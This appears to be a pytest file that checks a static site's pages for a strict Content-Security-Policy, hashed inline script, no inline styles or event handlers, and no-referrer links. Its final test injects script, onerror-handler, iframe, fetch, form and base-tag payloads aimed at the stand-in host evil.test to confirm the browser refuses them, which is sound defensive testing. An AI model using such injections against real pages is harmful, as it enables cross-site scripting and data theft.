"""Every page tells its browser to run nothing and fetch nothing but what the site brings, and obeys that itself."""

import re
from base64 import b64encode
from dataclasses import dataclass, field
from hashlib import sha256
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Request

from zhendi.look import first_script, page_policy

_POLICY = ("meta", {"http-equiv": "Content-Security-Policy"})


@dataclass
class Tags(HTMLParser):
    """A page's tags in order with their attributes, and the text of its scripts and styles."""

    html: str
    tags: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    inline: list[tuple[str, str]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()
        self.feed(self.html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem in ("script", "style"):
            self.inline.append((self.cdata_elem, data))

    def named(self, name: str) -> list[dict[str, str]]:
        return [told for tag, told in self.tags if tag == name]


@pytest.fixture(scope="module")
def read(pages: tuple[Path, ...]) -> dict[Path, Tags]:
    return {page: Tags(page.read_text(encoding="utf-8")) for page in pages}


def test_the_policy_stands_before_all_that_could_be_loaded(read: dict[Path, Tags]) -> None:
    for page, held in read.items():
        names = [tag for tag, _ in held.tags]
        tag, told = held.tags[names.index("head") + 1]
        assert (tag, told.get("http-equiv")) == ("meta", "Content-Security-Policy"), page
        assert page.read_bytes().find(b'charset="utf-8"') < 1000, "where a browser looks for the encoding"


def test_only_scripts_of_the_site_run_and_only_from_its_files(read: dict[Path, Tags]) -> None:
    for page, held in read.items():
        directives = dict(part.split(" ", 1) for part in held.tags[2][1]["content"].split("; "))
        assert directives["default-src"] == directives["base-uri"] == "'none'", page
        digest = b64encode(sha256(first_script().encode()).digest()).decode()
        assert directives["script-src"] == f"'self' 'sha256-{digest}'", page
        assert "unsafe" not in directives["style-src"] + directives["script-src"], page
        assert all(value in ("'self'", "'none'") for name, value in directives.items() if name.endswith("-uri")), page


def test_no_page_of_residents_takes_pictures_out_of_its_text() -> None:
    assert "data:" not in page_policy()


def test_no_script_style_or_handler_stands_in_a_page_but_the_first(read: dict[Path, Tags]) -> None:
    for page, held in read.items():
        runs = [
            told for told in held.named("script") if "src" not in told and told.get("type") != "application/ld+json"
        ]
        assert (len(runs), ("script", first_script()) in held.inline) == (1, True), page
        assert not held.named("style"), page
        assert not [tag for tag, told in held.tags if "style" in told], page
        for tag, told in held.tags:
            assert not [name for name in told if name.startswith("on")], (page, tag)
            addresses = (told.get(name, "") for name in ("href", "src", "action", "formaction"))
            assert not [found for found in addresses if re.match(r"\s*(?:javascript|data|vbscript):", found)], page


def test_nobody_outside_learns_which_page_a_reader_came_from(read: dict[Path, Tags]) -> None:
    for page, held in read.items():
        assert {"name": "referrer", "content": "same-origin"} in held.named("meta"), page
        for told in held.named("a"):
            if urlsplit(told.get("href", "")).scheme in {"http", "https"}:
                assert told.get("rel") == "noopener noreferrer", (page, told["href"])


def test_pages_obey_their_own_policy(pages: tuple[Path, ...], browser: Browser) -> None:
    """From file:// everything is loaded, and nothing that a page does is refused. 404.html needs its server."""
    context = browser.new_context()
    page = context.new_page()
    told: list[str] = []
    page.on("console", lambda message: told.append(f"{page.url}: {message.text}"))
    for file in pages:
        if file.name == "404.html":
            continue
        page.goto(file.as_uri())
        assert page.evaluate("getComputedStyle(document.querySelector('.head')).display") == "block", file
    context.close()
    assert told == []


# What was refused first; nothing is waited for but the browser's own word, or its giving up.
_REFUSAL = """new Promise((done, failed) => {
  document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
  setTimeout(() => failed(new Error('nothing was refused')), 5000);
})"""


@pytest.mark.parametrize(
    "smuggled",
    [
        "const s = document.createElement('script'); s.textContent = 'window.struck = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"x.png\" onerror=\"window.struck = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.test/\"></iframe>')",
        "const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.test/x.png\">')",
        "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.body.append(s)",
        "fetch('https://evil.test/').catch(() => 0)",
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.test/\"></form>');"
        " document.querySelector('form[action^=https]').submit()",
        "const b = document.createElement('base'); b.href = 'https://evil.test/'; document.head.prepend(b)",
    ],
    ids=["script", "handler", "frame", "foreign script", "foreign picture", "style", "fetch", "form", "base"],
)
def test_what_was_smuggled_in_is_refused(smuggled: str, site: Path, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # the library wants a function of its own
    page.goto((site / "index.html").as_uri())
    assert page.evaluate(f"() => {{ const seen = {_REFUSAL}; {smuggled}; return seen; }}")
    assert _unharmed(page)
    assert not [request.url for request in asked if "evil" in request.url and request.failure != "csp"]
    context.close()


def _unharmed(page: Page) -> bool:
    return bool(page.evaluate("!window.struck && getComputedStyle(document.body).display !== 'none'"))
